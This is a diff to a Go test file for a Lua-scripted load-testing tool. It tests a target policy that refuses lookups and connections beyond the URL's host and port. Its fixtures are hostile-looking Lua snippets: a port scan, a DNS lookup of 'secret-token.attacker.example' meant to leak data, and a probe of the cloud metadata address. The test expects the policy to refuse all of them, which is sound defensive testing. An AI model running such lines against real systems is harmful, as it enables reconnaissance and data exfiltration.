@@ -3,13 +3,17 @@ package luart
 import (
 	"bufio"
 	"bytes"
+	"context"
+	"errors"
 	"fmt"
 	"io"
 	"net"
 	"net/http"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -315,7 +319,10 @@ func TestCompatScriptsDriven(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.script, func(t *testing.T) {
-			s, out, warn := load(t, tt.script, "", Options{URL: url, Threads: tt.threads})
+			p, _ := strconv.Atoi(port)
+			// As the CLI does: the address the URL's host resolved to.
+			addr := &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: p}
+			s, out, warn := load(t, tt.script, "", Options{URL: url, Threads: tt.threads, Addr: addr})
 			r := drive(t, s, tt.threads, tt.batches, tt.serve)
 			tt.check(t, r, out.String())
 			if warn.String() != "" {
@@ -338,56 +345,91 @@ func TestSetupDoneThreadValues(t *testing.T) {
 	}
 }
 
+// TestThreadAddr: thread.addr, wrk.lookup and wrk.connect under the target
+// policy. The URL is http://127.0.0.1:8080/; its host and port are all a
+// script may use unless more is allowed explicitly, and a refusal ends the
+// script with a *policy.RefusedError (the CLI's exit 4) that pcall cannot
+// catch.
 func TestThreadAddr(t *testing.T) {
 	addr := &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 8080}
+	allow := func(entries ...string) *policy.Targets {
+		p, err := policy.NewTargets([]policy.Source{{Name: "--allow-target", Entries: entries}}, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return p.WithApproved([]net.IP{addr.IP}, addr.Port)
+	}
 	tests := []struct {
 		name    string
 		src     string
 		want    string // thread 2's address
-		wantErr string
-		warn    string
+		wantErr string // for a refusal, the whole message up to the hook
 		targets *policy.Targets
 	}{
 		{name: "default is the resolved address", src: `function setup(t) end`, want: "127.0.0.1:8080"},
-		{name: "setup assigns a looked-up address", src: `
+		{name: "the URL's host and port, looked up", src: `
 function setup(t)
-  local a = wrk.lookup("127.0.0.2", "9090")
-  t.addr = a[1]
-end`, want: "127.0.0.2:9090"},
+  t.addr = wrk.lookup(wrk.host, wrk.port)[1]
+  assert(wrk.connect(t.addr) == false) -- nothing listens; allowed all the same
+end`, want: "127.0.0.1:8080"},
 		{name: "get returns a copy", src: `
 function setup(t)
   local a = t.addr
   assert(tostring(a) == "127.0.0.1:8080", tostring(a))
   t.addr = wrk.lookup("::1", 81)[1]
   assert(tostring(t.addr) == "::1:81", tostring(t.addr))
-end`, want: "[::1]:81"},
+end`, want: "[::1]:81", targets: allow("[::1]:81")},
 		{name: "strings are rejected", src: `function setup(t) t.addr = "10.0.0.1:80" end`,
 			wantErr: "wrk.addr expected, got string"},
 		{name: "other fields cannot be set", src: `function setup(t) t.id = 1 end`,
 			wantErr: "cannot set 'number' on thread"},
 		{name: "unknown fields read as their name", src: `function setup(t) assert(t.foo == "foo") end`, want: "127.0.0.1:8080"},
-		{name: "public addresses need --allow-target", src: `
+		{name: "another port of the URL's host", src: `
 function setup(t)
-  t.addr = wrk.lookup("192.0.2.7", 80)[1]
-end`, wantErr: "denied by the target policy", warn: "thread.addr = 192.0.2.7:80 denied at addr.lua:3 — allow it with --allow-target 192.0.2.7"},
-		{name: "wrk.connect obeys the policy", src: `
+  t.addr = wrk.lookup(wrk.host, 9090)[1]
+end`, wantErr: "thread.addr = 127.0.0.1:9090 at addr.lua:3 refused by the target policy: not the URL's host and port (127.0.0.1:8080); allow it with --allow-target 127.0.0.1:9090 (or targets.allow in .wrklint.yml)",
+			targets: allow()},
+		{name: "a port scan stops at the first port", src: `
 function setup(t)
-  assert(wrk.connect(wrk.lookup("192.0.2.7", 80)[1]) == false)
-end`, want: "127.0.0.1:8080", warn: "wrk.connect(192.0.2.7:80) denied at addr.lua:3 — allow it with --allow-target 192.0.2.7"},
-		// The CLI's policy value: an allowed block, a denied one.
+  for p = 1, 1024 do wrk.connect(wrk.lookup(wrk.host, p)[1]) end
+end`, wantErr: "wrk.connect(127.0.0.1:1) at addr.lua:3 refused by the target policy: not the URL's host and port (127.0.0.1:8080); allow it with --allow-target 127.0.0.1:1",
+			targets: allow()},
+		{name: "another private host is not looked up", src: `
+function setup(t)
+  t.addr = wrk.lookup("10.1.2.3", "80")[1]
+end`, wantErr: `wrk.lookup("10.1.2.3") at addr.lua:3 refused by the target policy: only the URL's host (127.0.0.1) may be looked up; allow it with --allow-target 10.1.2.3 (or targets.allow in .wrklint.yml)`},
+		{name: "nor is any other name", src: `
+function setup(t)
+  wrk.lookup("secret-token.attacker.example", "80")
+end`, wantErr: `wrk.lookup("secret-token.attacker.example") at addr.lua:3 refused by the target policy: only the URL's host (127.0.0.1) may be looked up; allow it with --allow-target secret-token.attacker.example`},
+		{name: "pcall cannot swallow a refusal", src: `
+function setup(t)
+  local ok = pcall(function() t.addr = wrk.lookup(wrk.host, 22)[1] end)
+  ok = pcall(function() return 1 end)
+  t.addr = wrk.lookup(wrk.host, wrk.port)[1]
+end`, wantErr: "thread.addr = 127.0.0.1:22 at addr.lua:3 refused by the target policy", targets: allow()},
+		{name: "link-local and metadata addresses", src: `
+function setup(t)
+  t.addr = wrk.lookup("169.254.169.254", 80)[1]
+end`, wantErr: `wrk.lookup("169.254.169.254") at addr.lua:3 refused by the target policy`, targets: allow()},
 		{name: "allowed by --allow-target", src: `
 function setup(t)
   t.addr = wrk.lookup("192.0.2.7", 80)[1]
 end`, want: "192.0.2.7:80", targets: testTargets(t)},
-		{name: "deny wins over the local default", src: `
+		{name: "allowed by name: what the name resolves to", src: `
+function setup(t)
+  t.addr = wrk.lookup("localhost", 9090)[1]
+  t.addr = t.addr -- the name stays with the thread's copy
+end`, want: "9090", targets: allow("localhost:9090")},
+		{name: "deny wins", src: `
 function setup(t)
   t.addr = wrk.lookup("127.0.0.9", 80)[1]
-end`, wantErr: `denied by the target policy (targets.deny "127.0.0.8/30")`, targets: testTargets(t),
-			warn: "thread.addr = 127.0.0.9:80 denied at addr.lua:3 — allow it with nothing but removing the entry"},
+end`, wantErr: `wrk.lookup("127.0.0.9") at addr.lua:3 refused by the target policy: targets.deny "127.0.0.8/30"; remove the entry from targets.deny in .wrklint.yml to allow it (deny always wins)`,
+			targets: testTargets(t)},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			s, _, warn := load(t, "addr.lua", tt.src, Options{Threads: 2, Addr: addr, Targets: tt.targets})
+			s, _, _ := load(t, "addr.lua", tt.src, Options{Threads: 2, Addr: addr, Targets: tt.targets})
 			_, err := s.NewThread(0)
 			var th runner.ThreadScript
 			if err == nil {
@@ -397,13 +439,14 @@ end`, wantErr: `denied by the target policy (targets.deny "127.0.0.8/30")`, targ
 				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
 					t.Fatalf("err = %v, want %q", err, tt.wantErr)
 				}
+				var refused *policy.RefusedError
+				if isRefusal := strings.Contains(tt.wantErr, "refused by the target policy"); errors.As(err, &refused) != isRefusal {
+					t.Errorf("err = %#v: want a *policy.RefusedError: %v", err, isRefusal)
+				}
 			} else if err != nil {
 				t.Fatal(err)
-			} else if got := th.(*thread).Addr().String(); got != tt.want {
+			} else if got := th.(*thread).Addr().String(); !strings.HasSuffix(got, tt.want) {
 				t.Errorf("thread 2 addr = %s, want %s", got, tt.want)
-			}
-			if tt.warn != "" && !strings.Contains(warn.String(), tt.warn) {
-				t.Errorf("warnings %q, want %q", warn, tt.warn)
 			}
 		})
 	}
@@ -451,6 +494,35 @@ func TestByteOrderMarkAndCRLF(t *testing.T) {
 		}
 		if !strings.HasPrefix(string(req), want) {
 			t.Errorf("request %q, want it to start with %q", req, want)
+		}
+	}
+}
+
+// TestLookupRefusedBeforeResolving: a refused wrk.lookup never reaches the
+// resolver, so no DNS query carries the name out. The resolver counts its
+// dials; allowing the name explicitly shows that a lookup would dial.
+func TestLookupRefusedBeforeResolving(t *testing.T) {
+	for _, tt := range []struct {
+		allow []string
+		dials bool
+	}{{nil, false}, {[]string{"secret-token.attacker.example"}, true}} {
+		var dials atomic.Int64
+		res := &net.Resolver{PreferGo: true, Dial: func(context.Context, string, string) (net.Conn, error) {
+			dials.Add(1)
+			return nil, errors.New("no network in this test")
+		}}
+		targets, err := policy.NewTargets([]policy.Source{{Name: "--allow-target", Entries: tt.allow}}, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		s, _, _ := load(t, "lookup.lua", `function setup(t) wrk.lookup("secret-token.attacker.example", "80") end`,
+			Options{Threads: 1, Resolver: res, Targets: targets})
+		_, err = s.NewThread(0)
+		if err == nil {
+			t.Fatalf("allow %v: the lookup succeeded", tt.allow)
+		}
+		if got := dials.Load() > 0; got != tt.dials {
+			t.Errorf("allow %v: %d dials (err %v); want dials: %v", tt.allow, dials.Load(), err, tt.dials)
 		}
 	}
 }
